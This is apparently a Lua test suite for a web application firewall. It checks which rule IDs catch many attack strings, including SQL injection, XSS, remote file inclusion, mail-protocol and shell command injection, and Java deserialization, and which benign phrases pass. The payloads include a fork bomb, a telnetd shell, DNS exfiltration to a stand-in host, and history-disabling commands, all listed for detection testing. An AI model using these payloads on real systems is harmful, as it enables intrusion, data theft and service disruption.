local rule_checks = require "rule_checks"

-- The forty-third set on (tests/edge_security/family_gen_blind_forty*.py): fourth authors of the rule titles
-- and a bypass researcher. The families they found uncovered and the prose beside them, value by value (our own
-- spellings, not the sets').
describe("edge.waf.rules forty-third set on", function()
    local caught_by, clean

    setup(function()
        caught_by, clean = rule_checks.new(assert)
    end)

    it("SQLi: UPDATE ... SET, ALTER TABLE and MERGE ... USING ... ON as the whole value", function()
        caught_by(142230, { "UPDATE accounts SET balance=0", "update `t` set `x` = 1 where 1",
            "alter table orders drop column total", "ALTER TABLE t ENGINE=MEMORY",
            "merge into tgt t using src s on (t.id = s.id) when matched then delete",
            "MERGE INTO a USING b ON a.k = b.k" })
        clean({ "an update of users set for friday", "alter table plans with the team", "merge into main using the CLI",
            "merge into main using the CLI on Friday", "update: users set up their own keys" })
    end)

    it("SQLi: MATCH() AGAINST() in any mode, the simple CASE, COLLATE, glued scientific notation, JSON paths", function()
        caught_by(142190, { "match(title,body) against('+x -y')", "2 AND (CASE 2 WHEN 2 THEN 1 ELSE 0 END)",
            "x' COLLATE utf8mb4_bin='X", "1 collate nocase", "1.e2union select 2", "5e0from t",
            "1 and doc ->> '$.role' = 'admin'", "'[1]' #> '{0}'", "7 glob 'a*'", "9 is not null",
            "3 !~* 'b'", "col glob '?'" })
        clean({ "match (the game) against the league", "Please collate the_reports by Friday", "Score: 3.e5 from the judges",
            "the case 2 when the server is down then restart it end of story", "INBOX zero is my goal" })
    end)

    it("SQLi: a quote, then a comparison operator of another database, or a boolean and a bare literal", function()
        caught_by(142240, { "b' sounds like 'b", "x' <=> 'x", "q' glob 'q*", "z' ~* 'Z", "' OR 'yes'", "\" and \"1\"" })
        caught_by(142180, { "'/*M!100000 or 1*/", "/*M!50000 select 1*/" })
        caught_by(142250, { "4 or 'four'", "8 and k is null" })
        caught_by(142100, { "' and version()='5", "x' or now()>0 -- ", "x' and N'b'=N'b", "' or 4 div 2 -- " })
        caught_by(142170, { "1; select 'x' from dual --", "a'; select 'b', 'c' --", "bob'; select 'a" })
        caught_by(133120, { 'O:8:"Settings":+2:{s:1:"a";i:1;}', 'a:+1:{i:0;s:1:"x";}' })
        caught_by(142280, { "abc;--" })
        caught_by(142140, { "select 0x61646d696e" })
        clean({ "Open settings; select 'Dark mode' from the menu", "printer jammed; select 'tray 2' instead",
            "choose 'red' or 'blue'", "He said 'soon' and then -- silence.", "It's 'like' that", "The 'Like' button and the 'Share' one", "1 or 2 is fine" })
    end)

    it("RFI: a remote URL assigned to an include directory or root setting", function()
        caught_by(131140, { "GALLERY_BASEDIR=http://198.51.100.4/", "lib[inc_dir]=ftp://x.example/", "root=https://x.example/",
            "q=1&theme_path=http://x.example/t", "_conf[path]=https://x.example/" })
        clean({ "https://app.example.com/login?return_path=https://app.example.com/x", "template_dir is /var/www/tpl",
            "Set base_path = /srv/app", "https://x.example/?next_path=https://x.example/a" })
    end)

    it("RCE: history after any separator, !$, a separator and a probe alone", function()
        caught_by(132180, { "x; history", ";who", "|df", "& ps" })
        caught_by(132280, { "a && !$", "x; !$" })
        clean({ "history of the company; history matters", "ship it; w00t", "bob & su casa", "cool!! see you",
            "costs $5; who pays?" })
    end)

    it("RCE: SMTP's body ended then QUIT, IMAP mailbox commands, POP3 after USER", function()
        caught_by(132200, { "a\r\nDATA\r\nhello\r\n.\r\nQUIT", "x%0d%0adata%0d%0ahi%0d%0a.%0d%0amail from:<a@b>",
            "box\r\nz9 DELETE Trash", "x\nA7 STATUS INBOX (MESSAGES)", "me\r\nUSER bob\r\nSTAT" })
        clean({ "1. Data\n2. More data\n.\nquit smoking", "user manual\nlist of items", "A1 Delete old rows\nA2 done" })
    end)

    it("Java: Runtime by its internal or spaced name, commons-collections factories, protectionDomain", function()
        caught_by(144100, { "java/lang/ProcessBuilder start", "java . lang . Runtime", "PrototypeSerializationFactory",
            "x=InstantiateFactory", "class.protectionDomain.codeSource.location.path" })
        clean({ "see java/lang/Runtime.html in the docs",
            "https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html" })
    end)

    it("XSS: a namespaced dangerous element, HTC behaviours, an xmlns prefix with no URI, a scheme split by a tab", function()
        caught_by(141100, { "<o:vmlframe src=x.vml>", "<svg:iframe src=x>", "<?import namespace=t implementation=t.htc>",
            "<import implementation='b.htc'/>", "<body xmlns:t>" })
        caught_by(141130, { "vb\tscript:msgbox(2)", "j\na\nvascript:void(0)" })
        clean({ '<note xmlns:h="http://www.w3.org/TR/html4/">', "the xmlns attribute is required in standalone SVG files",
            "implementation details are in the RFC", "vb script notes" })
    end)

    it("XSS: comments inside a sink, a global's member by bracket, breakouts into DOM globals and src", function()
        caught_by(141140, { "document /* x */ . domain", "confirm/**/(2)", "parent/**/['eval'](x)", "window['atob']('YQ')",
            "\"+document.cookie+\"", "'-location.href-'", "import(\"https://x.example/m.js\")", "[].map.apply`x`",
            "a|toString=confirm|b" })
        caught_by(141120, { "\" href=\"//x.example/a\"", "x;onload=prompt", "(onerror=eval)" })
        clean({ "import('./local-module.js')", "the 'src' attribute",
            "Bob's \"+1\" on the PR", "we alert (the team) when it breaks" })
    end)

    it("PHP, Perl and Node.js: BBCode PHP tags, eval blocks, repeat() to a power", function()
        caught_by(132120, { "[php]phpinfo();[/php]" })
        caught_by(132170, { "eval { `id` }", "eval{ open(F, '/etc/passwd') }" })
        caught_by(135120, { "'x'.repeat(10**9)" })
        clean({ "[PHP] question about arrays", "eval is evil", "'-'.repeat(20)" })
    end)

    it("forty-seventh to fiftieth: SQL the engines accept that we missed, and prose beside it", function()
        caught_by(142150, { "benchmark(5000000,md5('a'))" })
        caught_by(142190, { "title rlike '^x'", "3 <=> 3", "2 having sum(x)>1", "ifnull(null,user())",
            "session_user()", "-2.5e(1)" })
        caught_by(142160, { "ALTER SYSTEM SET log_archive_dest='x'", "alter login bob disable",
            "ALTER ROLE app WITH SUPERUSER" })
        caught_by(142220, { "' - 'b", "7' / 1", "\"::int" })
        caught_by(142140, { "select top 5 * from logins" })
        caught_by(142250, { "5 and 1+1=3", "8 or N'y'='y'" })
        caught_by(142170, { "2; handler t read first;--" })
        clean({ "\"Where's it?\" -- \"Room 2, as usual\"", "Hi -- the '#' key is broken", "select comfort,sleep apnea",
            "select inbox, then filter by unread", "Calle 'La Luna' #12, Sevilla", "Status is null", "I like 'cats'",
            "having lunch, back in 20" })
    end)

    it("forty-eighth and forty-ninth: PHP, shell, Java and XSS fragments", function()
        caught_by(133100, { "(passthru)('ls')", "( exec ) /**/ ('id')" })
        caught_by(133110, { "chown('/var/www', 'x')", "rmdir($d)", "$cb()" })
        caught_by(132120, { "eval('echo 1;')" })
        caught_by(132280, { ".once /tmp/out.txt", "x;!!", "sudo !!", "/a/sudo !!" })
        caught_by(132180, { "&uptime", ";groups" })
        caught_by(132140, { "c^md /k whoami", "\"cmd.exe\" /c type x" })
        caught_by(135120, { "while /* */ (true) {}" })
        caught_by(144100, { "Runtime.getRuntime();", "new ProcessBuilder(cmd).inheritIO()" })
        caught_by(141130, { "vbscript:msgbox", "x=javascript:alert" })
        caught_by(141260, { "+ADw-img src=x+AD4-", "+ADwAaQBtAGc-" })
        caught_by(141140, { "');window.name='x", "\";document.title=\"y" })
        clean({ "!! urgent !! the printer is out of toner", "Runtime.getRuntime() is fine in the CLI tool",
            "JavaScript: The Good Parts", "I used chmod on the folder", "Vue's $t() helper", "\"Chromium\";v=\"128\"",
            "the word adw-something", "'Dark mode'; name it as you like" })
    end)

    it("forty-eighth and forty-ninth: JSFuck alone, one live start tag alone, sinks on a variable, split words", function()
        caught_by(141240, { "!+[]", "(![]+[])[+[]]", "! /**/ []" })
        caught_by(141270, { "<audio>", "<textarea rows=3>", "<svg:style>", "<marquee behavior=alternate>" })
        caught_by(141140, { "setInterval(cb)", "eval(window.name)", "fetch(\"//x.example/p\")" })
        caught_by(144120, { "\\xac\\xed\\x00\\x05\\x73\\x72" })
        caught_by(132180, { "una$1me -a" })
        clean({ "[] + []", "![](https://x.example/a.png)", "<b>", "<video> is my favourite tag", "(+)",
            "fetch(\"/api/users\")", "I pay $5 for ls", "+1" })
    end)

    it("fifty-second: the shortest SQL fragments of each title", function()
        caught_by(142160, { "master.dbo.sysfiles", "opendatasource('SQLNCLI','x')", "exec('dr'+'op table t')",
            "DECLARE @cmd NVARCHAR(4000)", "create function f(a int) returns int", "CREATE PROCEDURE dbo.p @x int",
            "create function x returns integer soname 'lib.so'", "create procedure p" })
        caught_by(142230, { "alter table t charset utf8", "merge t using s on t.a=s.a" })
        caught_by(142330, { "coalesce(null,'x')", "length(database())", "char_length('abc')", "unhex('7a')",
            "group_concat(column_name)", "ascii ('a')" })
        caught_by(142190, { "2 not between 1 and 3", "7 rlike 7" })
        caught_by(142240, { "x' not like 'y", "and 4 > 1 --", "or 'x'", "|| 2<3", "b'or'b" })
        caught_by(142220, { "2' - 1 - '" })
        caught_by(142180, { "*/ union select 1" })
        clean({ "Floor (3)", "Length (cm)", "user (admin)", "Version (2)", "and then we left", "or maybe not",
            "1 like 2 people", "We create procedure documents", "ALTER TABLE plans default to the team",
            "declare @handle for your twitter", "Please merge users using the tool on Monday" })
    end)

    it("fifty-third and fifty-fourth: mail protocol commands alone, Perl's process calls, shell idioms", function()
        caught_by(132270, { "ehlo mail.x.example", "rcpt to:<postmaster@x.example>", "vrfy postmaster", "auth plain",
            "x1 logout", "c7 uid store 1:* +flags (\\seen)", "t2 select \"INBOX\"", "retr 3", "top 2 5", "uidl" })
        caught_by(132200, { "x\r\nNOOP", "me\r\nRSET\r\nQUIT", "y\na2 uid search all" })
        caught_by(132110, { "|^cat^id", ":(){ :|:& };:", "busybox telnetd -l /bin/sh",
            "use IPC::Open2; open2(my $o, my $i, 'id')", "system qx(id)", "eval 'exec q(id)'" })
        caught_by(132280, { "command alias ll=id", "x; !#", ".tables" })
        caught_by(132105, { "x;nslookup data.x.example", "&& host a.b.example" })
        caught_by(132160, { "/usr/*/whoami" })
        caught_by(132140, { "net user administrator", "net view \\\\fs02" })
        caught_by(135120, { "while (2 === 2) {}" })
        caught_by(141140, { "eval(atob('Y29uZmlybSgxKQ=='))" })
        clean({ "list", "user admin", "stat", "Auth login failed again", "A1 Create account", "Pass the salt", "quit",
            "; dig into the data", "host a party", "Net User Group", "net user guide", "the uid search is slow",
            "https://metacpan.org/pod/IPC::Open3", "starttls" })
    end)

    it("fifty-sixth: Java's reflective calls alone, XStream's command element, history switched off, bin paths", function()
        caught_by(144100, { "forName('x')", "getDeclaredConstructor()", ".setAccessible(true);",
            "<command> <string>whoami</string>" })
        caught_by(144120, { "q=rO0ABXNz" })
        caught_by(132110, { "x; unset HISTFILE", "set +o history", "HISTSIZE=0" })
        caught_by(132180, { "/usr//bin/id -a", "/sbin/./ifconfig" })
        clean({ "loadClass is slow", "HISTFILE is where bash saves it", "getRuntime() is a singleton, see the docs",
            "the forName call" })
    end)

    it("fifty-fifth: SQL fragments a second author wrote", function()
        caught_by(142160, { "exec(@q)", "xp_servicecontrol 'start','x'" })
        caught_by(142150, { "dbms_xmlgen.getxml('x')", "1 and floor(rand(0)*2)" })
        caught_by(142230, { "insert into accounts", "'; alter login sa" })
        caught_by(142240, { "|| false", "xor 0", "\") or (\"", "a' not in ('b')", "'=0x41 --" })
        caught_by(142140, { "select `user`()" })
        caught_by(142250, { "3 or 'x" })
        caught_by(142190, { ") when 2 then 3", "4 != 5", "6 rlike binary 'q'" })
        caught_by(142160, { "utl_inaddr.get_host_address" })
        caught_by(142230, { "1 alter login sa" })
        caught_by(142220, { "; --" })
        clean({ "I'm in (London)", "1 = 1", "insert into select", "1=2", "xp_points", "insert into cart later", "Or true love", "and 1 more" })
    end)

    it("fifty-seventh to fifty-ninth: fragments of a third SQL author, PHP, Java and JavaScript", function()
        caught_by(142190, { "if(mid(user(),1,1)='r',1,0)", ") when 2=2 then", "' select version", "select 1",
            "(select @@version)", "1 from dual", "' from accounts --" })
        caught_by(142160, { "convert(name using utf8)", "sysibm.sysdummy1", "mysql.proc" })
        caught_by(142170, { "x; declare k cursor for select 1" })
        caught_by(142230, { "1 alter table t" })
        caught_by(142240, { "or 2 between 1 and 3", "and 4 is not null" })
        caught_by(142330, { "json_keys('{\"a\":1}')" })
        caught_by(142190, { "'{\"a\":1}' ?| 'a'" })
        caught_by(133150, { "putenv" })
        caught_by(141140, { "atob('eA==')", "setInterval/* */(f)" })
        caught_by(141130, { "data:application/x-httpd-php,<?php" })
        caught_by(144100, { "getMethod/**/('exec')", "Lcom/sun/rowset/JdbcRowSetImpl;" })
        caught_by(144120, { "ac ed 00 05 73 72" })
        caught_by(132170, { "Open3::capture2('ls')" })
        clean({ "https://perldoc.perl.org/perlop#qx/STRING/", "Select user", "select 1 option", "from dual citizenship",
            "AC/DC", "see java/lang/Runtime.html in the docs" })
    end)
end)
